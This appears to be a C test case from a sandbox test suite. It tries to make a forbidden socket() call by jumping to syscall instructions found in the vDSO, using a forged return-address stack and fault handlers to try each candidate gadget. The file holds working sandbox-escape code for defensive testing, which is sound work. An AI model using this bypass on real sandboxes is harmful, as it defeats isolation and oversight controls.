/*
 * claim: makes a forbidden call by a syscall instruction found in the vDSO
 * class: abi
 * bare: 1 | 77
 * compute: policy-violation socket | exited 77
 * see: pitfalls 39, 56
 */
#include "attack.h"
#include <elf.h>
#include <setjmp.h>
#include <sys/auxv.h>

/*
 * What follows the instruction in the vDSO ends in some mix of pops, leave and
 * ret, so the stack is all copies of one return address, and so is what rbp
 * points at; a gadget that does not get there faults and the next one is tried.
 */
unsigned long gadget_stack[4096] __attribute__((aligned(64)));
unsigned long gadget_rsp, gadget_rbp, gadget_rbx;
static sigjmp_buf next;

static void fault(int sig)
{
	(void)sig;
	siglongjmp(next, 1);
}

static __attribute__((noinline)) long by_gadget(const unsigned char *at)
{
	long fd;
	extern char gadget_back[];

	for (int i = 0; i < 4096; i++)
		gadget_stack[i] = (unsigned long)gadget_back;
	__asm__ volatile("mov %%rbx, gadget_rbx(%%rip)\n\t"
			 "mov %%rbp, gadget_rbp(%%rip)\n\t"
			 "mov %%rsp, gadget_rsp(%%rip)\n\t"
			 "lea gadget_stack+16384(%%rip), %%rsp\n\t"
			 "lea gadget_stack+16384(%%rip), %%rbp\n\t"
			 "jmp *%1\n\t"
			 ".globl gadget_back\n"
			 "gadget_back:\n\t"
			 "mov gadget_rsp(%%rip), %%rsp\n\t"
			 "mov gadget_rbp(%%rip), %%rbp\n\t"
			 "mov gadget_rbx(%%rip), %%rbx\n\t"
			 : "=a"(fd)
			 : "r"(at), "a"((long)SYS_socket), "D"(1L), "S"(1L), "d"(0L)
			 : "rcx", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "memory");
	return fd;
}

int main(void)
{
	const unsigned char *v = (const unsigned char *)getauxval(AT_SYSINFO_EHDR);
	static unsigned char altstack[65536];
	stack_t ss = { .ss_sp = altstack, .ss_size = sizeof altstack };
	struct sigaction sa = { .sa_handler = fault, .sa_flags = SA_ONSTACK };
	volatile unsigned size = 0;
	static volatile unsigned i;

	if (!v)
		impossible("no vDSO");
	const Elf64_Phdr *ph = (const Elf64_Phdr *)(v + ((const Elf64_Ehdr *)v)->e_phoff);
	for (int k = 0; k < ((const Elf64_Ehdr *)v)->e_phnum; k++)
		if (ph[k].p_type == PT_LOAD)
			size = (unsigned)ph[k].p_memsz;
	sigaltstack(&ss, 0);
	sigaction(SIGSEGV, &sa, 0);
	sigaction(SIGBUS, &sa, 0);
	sigaction(SIGILL, &sa, 0);
	sigaction(SIGTRAP, &sa, 0);
	for (i = 0; i + 1 < size; i++) {
		if (v[i] != 0x0f || v[i + 1] != 0x05)
			continue;
		if (sigsetjmp(next, 1))
			continue;
		long fd = by_gadget(v + i);
		struct stat st;

		if (fd >= 3 && fd < 1024 && fstat((int)fd, &st) == 0 && S_ISSOCK(st.st_mode))
			escaped("the vDSO's own instruction made a socket");
	}
	impossible("no usable syscall instruction in the vDSO");
}
